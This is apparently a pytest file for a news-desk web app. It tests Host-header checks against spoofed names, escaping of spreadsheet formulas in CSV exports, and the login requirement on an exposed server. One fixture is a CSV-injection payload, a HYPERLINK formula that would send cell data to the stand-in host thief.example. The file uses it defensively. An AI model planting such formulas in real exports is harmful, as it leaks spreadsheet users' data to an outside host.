"""The desk answers to its own names, warns when others can reach it, and exports no formulas."""

import asyncio
import csv
import http.client
import io
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from db.articles import insert
from db.articles.write import SaveContext
from db.crawl import links, sources
from db.store import open_store
from newsdesk.own_hosts import only_under, own_names
from newsdesk.safe_csv import safe_rows
from pipelines.items import Entry, Link
from pipelines.sources import Source
from tests.samples import NOW, kept_article

ARTICLES = "/khabardar/articles.csv"
FORMULA = '=HYPERLINK("http://thief.example/?"&A1,"Families sent back")'


def status_for(host: bytes | None, names: frozenset[str]) -> int:
    """Return the status that a request with a Host header gets."""
    sent: list[dict[str, Any]] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    async def receive() -> dict[str, Any]:
        return {}

    headers = [] if host is None else [(b"host", host)]
    scope = {"type": "http", "headers": headers}

    async def ask() -> None:
        await only_under(app, names)(scope, receive, send)

    asyncio.run(ask())
    return int(sent[0]["status"])


@pytest.mark.parametrize(
    ("host", "status"),
    [
        (b"localhost:8001", 200),
        (b"LocalHost", 200),
        (b"localhost.", 200),
        (b"127.0.0.1:8001", 200),
        (b"[::1]:8001", 200),
        (b"::1", 200),
        (b"192.0.2.7", 200),
        (b"desk.example.org", 200),
        (None, 200),
        (b"thief.example", 421),
        (b"thief.example:8001", 421),
        (b"localhost.thief.example", 421),
        (b"127.0.0.1.thief.example", 421),
        (b"xn--\xff", 421),
    ],
)
def test_names_that_are_not_its_own_are_refused(host: bytes | None, status: int) -> None:
    assert status_for(host, own_names("127.0.0.1", ["Desk.example.org"])) == status


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (FORMULA, "'" + FORMULA),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("+92 21 111", "'+92 21 111"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("a=b", "a=b"),
        ("افغان\nخاندان", "افغان\nخاندان"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(cell: str, safe: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(["id", cell])
    assert list(csv.reader(io.StringIO(safe_rows(written.getvalue()), newline=""))) == [
        ["id", safe]
    ]


def test_a_desk_that_others_can_reach_warns_and_still_refuses_strange_names(
    tmp_path: Path,
) -> None:
    with open_store(tmp_path / "khabardar.db", write=True) as store:
        sources.sync_sources(store, [Source("a", "A", "https://a.example/")], NOW)
        url = "https://a.example/1"
        links.add_links(store, "a", "feed", [Entry(url)], NOW)
        kept = kept_article(url, title=FORMULA)
        insert.save_kept(
            store, Link("a", "feed", Entry(url)), kept, SaveContext(NOW, None, "", "x")
        )
    (tmp_path / "khabardar.toml").write_text("[catalogue]\nuse = false\n", encoding="utf8")
    command = [sys.executable, "-m", "khabardar", "-c", str(tmp_path / "khabardar.toml"), "serve"]
    opened = [*command, "--host", "0.0.0.0", "--port", "0", "--name", "desk.example.org"]
    known = {**os.environ, "KHABARDAR_DESK__PASSWORD": "quince 7"}
    server = subprocess.Popen(opened, stderr=subprocess.PIPE, text=True, env=known)
    try:
        assert server.stderr
        assert "warning: whoever can reach this machine" in server.stderr.readline()
        port = re.search(r":(\d+)/", server.stderr.readline())
        assert port
        found = {}
        cookie = ""
        for name, host, path in (
            ("stranger", "desk.example.org", ARTICLES),
            ("login", "desk.example.org", "/-/login"),
            ("reader", "desk.example.org", ARTICLES),
            ("thief", "thief.example", ARTICLES),
        ):
            asked = http.client.HTTPConnection("127.0.0.1", int(port[1]))
            body = "password=quince+7" if name == "login" else None
            sent = {"Host": host, "Cookie": cookie}
            asked.request("POST" if body else "GET", path, body, sent)
            answer = asked.getresponse()
            found[name] = (answer.status, answer.read().decode())
            cookie = str(answer.headers["set-cookie"] or cookie).partition(";")[0]
            asked.close()
    finally:
        server.terminate()
        server.wait(20)
        if server.stderr:
            server.stderr.close()
    assert found["thief"][0] == 421
    assert "--name thief.example" in found["thief"][1]
    assert found["stranger"][0] == 401
    assert FORMULA not in found["stranger"][1]
    status, text = found["reader"]
    assert status == 200
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["title"] == "'" + FORMULA
